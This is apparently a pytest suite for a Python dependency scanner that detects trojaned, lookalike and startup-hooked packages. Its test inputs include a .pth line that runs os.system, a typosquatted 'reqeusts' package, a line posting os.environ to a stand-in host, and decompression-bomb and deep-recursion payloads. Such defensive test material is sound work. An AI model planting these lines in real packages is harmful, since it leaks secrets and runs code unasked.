"""All checks together: on a project as it is deployed, on hostile input, and on what is installed here."""

from __future__ import annotations

import sysconfig
from collections.abc import Mapping
from pathlib import Path

import pytest
from tests.scan.dependencies.projects import installed, project_of
from tests.scan.dependencies.trojan.trojans import TROJANS, assembled

from dayfly.scan.checks import CHECKS
from dayfly.scan.dependencies.checking import Options, check_file, check_project
from dayfly.scan.model import Finding, NoteKind
from dayfly.scan.source.project import PythonFile
from dayfly.scan.source.reading import read_project

HERE = Path(sysconfig.get_paths()["purelib"])


def checks(files: Mapping[str, str | bytes], options: Options | None = None) -> set[str]:
    found = check_project(project_of(files), (), (), options or Options())
    return {one.check for one in found if isinstance(one, Finding)}


def test_an_honest_function_has_no_finding() -> None:
    files = {
        "app.py": "import json\nimport requests\ndef handler(event, context):\n    return json.loads(event['body'])\n",
        "requirements.txt": "requests==2.31.0 --hash=sha256:" + "ab" * 32 + "\n",
        **installed(
            "requests",
            "2.31.0",
            {"requests/__init__.py": "from .api import get\n", "requests/api.py": "def get(url): ...\n"},
        ),
    }
    assert checks(files) == set()


def test_a_trojaned_package_in_a_bundle_is_found_from_several_sides() -> None:
    trojan = {path: assembled(text) for path, text in TROJANS["environment at import"][0].items()}
    files = {
        "app.py": "import fmt\n",
        "requirements.txt": "reqeusts\n",
        **installed("reqeusts", "1.0", trojan),
        "fmt_init.pth": "import os; os.system('id')\n",
    }
    assert checks(files) == {
        "dependency.unlocked",
        "dependency.lookalike",
        "dependency.trojan",
        "dependency.startup",
    }


def test_a_record_of_capabilities_that_cannot_be_read_is_not_checked() -> None:
    found = list(check_project(project_of({"app.py": ""}), (), (), Options(capabilities_lock="nonsense")))
    assert [getattr(one, "kind", None) for one in found] == [NoteKind.NOT_CHECKED]


def test_a_file_alone_has_no_finding_here() -> None:
    assert list(check_file(PythonFile("app.py", b"x = 1\n"))) == []


def test_every_finding_has_a_check_that_is_described() -> None:
    files = {
        "requirements.txt": "requests\n-e git+http://host.example/a@main#egg=a\n",
        "json.py": "",
        "x.pth": "import os; os.getcwd()\n",
    }
    assert checks(files) <= set(CHECKS)


DEEP = "(" * 150 + ")" * 150
HOSTILE: dict[str, str | bytes] = {
    "deep expressions": "x = " + "-" * 3_000 + "1\n" + "import os, requests\n",
    "deep parentheses": f"import os, requests\ntry:\n    x = {DEEP}\nexcept Exception: pass\n",
    "deep calls": "import os, requests\nx = " + "f(" * 90 + ")" * 90 + "\n",
    "long chain": "import os, requests\nx = a" + ".b()" * 2_000 + "\n",
    "many additions": "import os, requests\nx = " + " + ".join(["'a'"] * 5_000) + "\nexec(x)\n",
    "growing text": "import os, requests\nx = 'a'\n" + "x = x * 1000\n" * 30 + "exec(x)\n",
    "growing format": "exec('%9999999999d' % 1)\nexec('{:>9999999999}'.format('a'))\nexec(b'' .join([]))\n",
    "huge shift": "exec(chr(2 ** 63 * 2 ** 63 << 99999))\n",
    "functions that call each other": "import os, requests\n"
    + "".join(f"def f{i}(x): return f{(i + 1) % 300}(f{(i + 7) % 300}(x))\n" for i in range(300))
    + "f0(os.environ)\n",
    "itself": "import os, requests\ndef f(*a, **k): return f(f, *a, **k)\nf(os.environ)\nclass A(A): pass\nx = x\nlambda: x\n",
    "code in code": "exec('" + "exec(\\'" * 1 + "1" + "\\')" * 1 + "')\n",
    "nested functions": "import os, requests\n"
    + "".join(" " * i + f"def f{i}():\n" for i in range(80))
    + " " * 80
    + "return os.environ\nf0()\n",
    "null bytes": b"import os\0, requests\n",
    "wrong encoding": b"# coding: latin-9000\nimport os, requests\n",
    "no Python": "import os requests )(",
    "a bomb": "import zlib, base64\nexec(zlib.decompress(base64.b64decode('" + "eJ" * 50_000 + "')))\n",
    "surrogates": "import os, requests\nx = '\\ud800'\nrequests.post('https://a.example/' + x, data=dict(os.environ))\n",
    "decorators": "import os, requests\n" + "@f\n" * 2_000 + "def f(): pass\n",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_code_is_bounded_and_no_crash(name: str) -> None:
    files = installed("acme", "1.0", {"acme/__init__.py": HOSTILE[name]}, root="site-packages/")
    for one in check_project(
        project_of(files), (), (), Options(capabilities_lock='{"format": 1, "packages": {}}')
    ):
        assert one.message


@pytest.mark.parametrize(
    "name",
    [
        "boto3",
        "botocore",
        "yaml",
        "cryptography",
        "pydantic",
        "requests",
        "urllib3",
        "aws_xray_sdk",
        "flask",
        "jinja2",
        "werkzeug",
        "packaging",
    ],
)
def test_packages_that_everybody_uses_have_no_trojan(name: str) -> None:
    folder = HERE / name
    if not folder.is_dir():
        pytest.skip(f"{name} is not installed here")
    project = read_project(folder)
    for file in project.python.values():
        file.is_dependency = True
    found = [one for one in check_project(project, (), (), Options()) if isinstance(one, Finding)]
    assert [
        one.message
        for one in found
        if one.check in ("dependency.trojan", "dependency.startup", "dependency.modified")
    ] == []
